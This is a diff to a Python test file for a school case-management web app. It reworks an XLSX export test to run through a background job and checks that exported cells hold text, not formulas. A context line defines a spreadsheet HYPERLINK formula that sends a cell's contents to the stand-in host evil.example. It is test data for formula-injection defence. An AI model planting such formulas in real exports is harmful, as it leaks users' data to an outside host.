@@ -13,6 +13,7 @@ from fieldapp.models import AccessLog, AttendanceEvent, Case
 from fieldapp.timefmt import local_today, school_year_start
 from tests import factories
 from tests.web.conftest import page_text
+from tests.web.test_jobs import job_id_of, wait_for
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -100,10 +101,13 @@ def test_a_csv_export_quotes_formulas_and_logs_each_student(auth, login_as, worl
     assert AccessLog.select().count() == 2  # one line per student, not per row
 
 
-def test_an_xlsx_export_writes_text_cells_never_formulas(auth, login_as, world):
+def test_an_xlsx_export_writes_text_cells_never_formulas(auth, login_as, world, start_worker):
+    start_worker("sqlite")
     factories.gen_contact(world["case_a"], world["officer"], notes=FORMULA)
     login_as("supervisor")
-    answer = _export(auth, "/supervisor/export/contacts", "xlsx")
+    job = wait_for(auth.client, job_id_of(auth.post("/supervisor/export/contacts", data={"format": "xlsx"})))
+    answer = auth.client.get(f"/jobs/{job.id}/spreadsheet")
+    assert answer.status_code == 200, job.reason
     book = zipfile.ZipFile(io.BytesIO(answer.get_data()))
     assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
     sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data())).active
